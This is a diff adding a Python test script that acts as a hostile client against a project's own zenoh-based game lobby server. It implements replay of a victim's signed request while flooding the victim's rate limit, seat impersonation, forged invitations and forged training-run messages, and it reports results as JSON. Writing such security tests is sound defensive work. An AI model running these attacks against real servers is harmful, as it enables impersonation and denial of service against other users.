@@ -1,0 +1,257 @@
+"""A hostile client for issue 50's lobby and league attacks: an outsider's process (msgpack, zenoh,
+cryptography; no import of rocketdrl_ma) that tries one attack and prints what it got as one JSON line
+(``result {...}``). It starts by printing ``ready`` (or a result saying it could not connect at all).
+
+    python tests/server/hostile_lobby.py ATTACK --server NAME (--connect tcp/127.0.0.1:PORT | --config FILE) [...]
+
+Attacks:
+
+- ``relay``: listen on the victim's lobby key; when the victim asks for a challenge, keep the victim's rate
+  limit empty with cheap requests in its name until its ``create`` passes by, then resend that create byte for
+  byte once a token frees, keep the signed reply, and join a slot with any ticket the reply shows;
+- ``seat``: join ``--match`` claiming to be ``--victim``, whose seat the match holds;
+- ``invite``: invite ``--victim``'s league bot to ``--match`` (``--slots``), an invitation nobody signed;
+- ``answer-invite``: answer the league's invitations to ``--victim`` in its place, then join the invited
+  seats as the victim and hold them (liveliness tokens) until SIGTERM;
+- ``train``: publish a forged training run ``--match`` on ``train/**`` (and under the victim's prefix).
+"""
+from __future__ import annotations
+
+import argparse
+import hashlib
+import hmac
+import json
+import os
+import signal
+import sys
+import threading
+import time
+
+import msgpack
+import zenoh
+import yaml
+from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
+
+V = 2
+REQUEST_TAG = b"rocketdrl-ma/2 request\x00"
+
+
+def pack(message: dict) -> bytes:
+    return msgpack.packb({"v": V, **message}, use_bin_type=True)
+
+
+def body_of(raw: bytes) -> dict:
+    """The body of a sealed reply (the signature is the server's: a relay keeps it intact), or the error map."""
+    message = msgpack.unpackb(raw, raw=False)
+    if isinstance(message.get("body"), bytes):
+        return msgpack.unpackb(message["body"], raw=False)
+    return message
+
+
+def open_session(args):
+    config = zenoh.Config()
+    section = yaml.safe_load(open(args.config))["zenoh"] if args.config else {"connect": [args.connect]}
+    entries = {"mode": "client", "connect/endpoints": section["connect"], "listen/endpoints": [],
+               "scouting/multicast/enabled": False, "scouting/gossip/enabled": False}
+    for key, value in section.get("auth", {}).items():
+        entries[f"transport/auth/usrpwd/{key}"] = value
+    for key, value in section.get("tls", {}).items():
+        entries[f"transport/link/tls/{key}"] = value
+    for path, value in entries.items():
+        config.insert_json5(path, json.dumps(value))
+    return zenoh.open(config)
+
+
+class Lobby:
+    """Lobby requests as any user we claim to be."""
+
+    def __init__(self, session, server: str):
+        self.session, self.server = session, server
+
+    def ask(self, user: str, op: str, args: dict, proof: bytes | None = None, nonce: bytes | None = None,
+            timeout_s: float = 5.0) -> dict:
+        raw_args = msgpack.packb(args, use_bin_type=True)
+        message = {"op": op, "nonce": nonce or os.urandom(16), "args": raw_args}
+        if proof is not None:
+            challenge = self.ask(user, "challenge", {}).get("challenge")
+            if not isinstance(challenge, bytes):
+                return {"ok": False, "error": "no challenge"}
+            text = REQUEST_TAG + b"\x00".join(s.encode() for s in (op, self.server, user)) + b"\x00" + challenge
+            message.update(challenge=challenge, mac=hmac.digest(proof, text + raw_args, hashlib.sha256))
+        return self.send(user, pack(message), timeout_s)
+
+    def send(self, user: str, payload: bytes, timeout_s: float = 5.0) -> dict:
+        for reply in self.session.get(f"rocketdrl/{self.server}/u/{user}/lobby", payload=payload, timeout=timeout_s,
+                                      consolidation=zenoh.ConsolidationMode.NONE):
+            sample = reply.ok if reply.ok is not None else reply.err
+            try:
+                body = body_of(sample.payload.to_bytes())
+            except Exception:
+                continue
+            if "ok" in body:
+                return body
+        return {"ok": False, "error": "no reply"}
+
+    def join(self, user: str, match: str, slot: str, ticket: bytes | None = None) -> dict:
+        private = X25519PrivateKey.generate()
+        public = private.public_key().public_bytes_raw()
+        return self.ask(user, "join", {"match": match, "slot": slot, "client_key": public, "name": "mallory"},
+                        proof=ticket)
+
+
+def relay(session, lobby: Lobby, args) -> dict:
+    seen: dict[str, bytes] = {}
+    lock = threading.Lock()
+
+    def on_query(query) -> None:
+        if query.payload is None:
+            return
+        payload = query.payload.to_bytes()
+        try:
+            op = msgpack.unpackb(payload, raw=False).get("op")
+        except Exception:
+            return
+        with lock:
+            if op in ("challenge", "create") and op not in seen:
+                seen[op] = payload
+
+    queryable = session.declare_queryable(f"rocketdrl/{args.server}/u/{args.victim}/lobby", on_query)
+    # declared with the lobby queryable: who hears this probe's answer gets its queries routed here too
+    probe = session.declare_queryable(f"rocketdrl/{args.server}/u/{args.victim}/probe",
+                                      lambda query: query.reply(query.key_expr, b"here"))
+    print("ready", flush=True)
+    deadline = time.monotonic() + args.wait_s
+    while time.monotonic() < deadline and "challenge" not in seen:
+        time.sleep(0.001)
+    flood = 0
+    junk = pack({"op": "list", "nonce": os.urandom(16), "args": b"\x80"})
+    while time.monotonic() < deadline and "create" not in seen:  # the victim's bucket stays empty meanwhile
+        session.get(f"rocketdrl/{args.server}/u/{args.victim}/lobby", payload=junk, timeout=0.5)
+        flood += 1
+        time.sleep(0.002)
+    result = {"saw": sorted(seen), "flood": flood}
+    if "create" not in seen:
+        return result
+    time.sleep(args.refill_s)  # a token frees
+    reply = lobby.send(args.victim, seen["create"])
+    tickets = reply.get("tickets") if reply.get("ok") else None
+    result.update(replayed_ok=bool(reply.get("ok")), reply_error=reply.get("error"),
+                  readable_tickets=sorted(tickets) if isinstance(tickets, dict) else [])
+    joined = []
+    if isinstance(tickets, dict):
+        for slot, ticket in tickets.items():
+            try:
+                secret = bytes.fromhex(ticket)
+            except (TypeError, ValueError):
+                continue
+            if lobby.join(args.victim, reply["id"], slot, secret).get("ok"):
+                joined.append(slot)
+    result["joined_with_stolen_tickets"] = joined
+    queryable.undeclare()
+    probe.undeclare()
+    return result
+
+
+def seat(session, lobby: Lobby, args) -> dict:
+    print("ready", flush=True)
+    reply = lobby.join(args.victim, args.match, args.slots.split(",")[0])
+    return {"joined": bool(reply.get("ok")), "error": reply.get("error")}
+
+
+def invite(session, lobby: Lobby, args) -> dict:
+    print("ready", flush=True)
+    answers = []
+    for reply in session.get(f"rocketdrl/{args.server}/u/{args.victim}/invite", timeout=5.0,
+                             payload=pack({"match": args.match, "slots": args.slots.split(",")})):
+        sample = reply.ok if reply.ok is not None else reply.err
+        try:
+            answers.append(msgpack.unpackb(sample.payload.to_bytes(), raw=False))
+        except Exception:
+            answers.append({"ok": False, "error": "unreadable"})
+    return {"answers": len(answers), "accepted": sum(bool(a.get("ok")) for a in answers)}
+
+
+def answer_invite(session, lobby: Lobby, args, stop: threading.Event) -> dict:
+    invited: list = []
+    tokens: list = []
+    joins: list = []
+
+    def on_query(query) -> None:
+        try:
+            request = msgpack.unpackb(query.payload.to_bytes(), raw=False)
+            query.reply(query.key_expr, pack({"ok": True}))
+        except Exception:
+            return
+        invited.append(request)
+        for slot in request.get("slots") or []:
+            reply = lobby.join(args.victim, request.get("match"), slot)
+            joins.append({"slot": slot, "ok": bool(reply.get("ok")), "error": reply.get("error")})
+            if reply.get("ok"):
+                tokens.append(session.liveliness().declare_token(reply["keys"]["alive"]))
+
+    queryable = session.declare_queryable(f"rocketdrl/{args.server}/u/{args.victim}/invite", on_query)
+    print("ready", flush=True)
+    stop.wait(args.wait_s)
+    queryable.undeclare()
+    for token in tokens:
+        token.undeclare()
+    return {"invitations": len(invited), "joins": joins, "seats_held": sum(j["ok"] for j in joins)}
+
+
+def train(session, lobby: Lobby, args, stop: threading.Event) -> dict:
+    root = f"rocketdrl/{args.server}"
+    keys = [f"{root}/train/{args.match}", f"{root}/u/{args.victim}/train/{args.match}"]
+    tokens = [session.liveliness().declare_token(f"{k}/alive") for k in keys]
+    print("ready", flush=True)
+    sent = 0
+    while True:
+        for key in keys:
+            session.put(f"{key}/state", pack({"match": args.match, "decision": sent, "status": "running",
+                                               "done": False, "info": {"run": args.match, "iteration": 1}}))
+        sent += 1
+        if stop.wait(0.05):
+            break
+    for token in tokens:
+        token.undeclare()
+    return {"sent": sent}
+
+
+def main() -> int:
+    ap = argparse.ArgumentParser()
+    ap.add_argument("attack", choices=["relay", "seat", "invite", "answer-invite", "train"])
+    ap.add_argument("--server", required=True)
+    ap.add_argument("--connect", default=None)
+    ap.add_argument("--config", default=None, help="a client YAML: our own user, password and the server's CA")
+    ap.add_argument("--victim", default="guest")
+    ap.add_argument("--match", default="m")
+    ap.add_argument("--slots", default="blue_0")
+    ap.add_argument("--wait-s", type=float, default=60.0)
+    ap.add_argument("--refill-s", type=float, default=0.5)
+    args = ap.parse_args()
+    stop = threading.Event()
+    signal.signal(signal.SIGTERM, lambda *_: stop.set())
+    try:
+        session = open_session(args)
+    except zenoh.ZError as e:
+        print(f"result {json.dumps({'connected': False, 'error': str(e)[:200]})}", flush=True)
+        return 0
+    lobby = Lobby(session, args.server)
+    try:
+        if args.attack == "relay":
+            result = relay(session, lobby, args)
+        elif args.attack == "seat":
+            result = seat(session, lobby, args)
+        elif args.attack == "invite":
+            result = invite(session, lobby, args)
+        elif args.attack == "answer-invite":
+            result = answer_invite(session, lobby, args, stop)
+        else:
+            result = train(session, lobby, args, stop)
+    finally:
+        session.close()
+    print(f"result {json.dumps({'connected': True, **result})}", flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
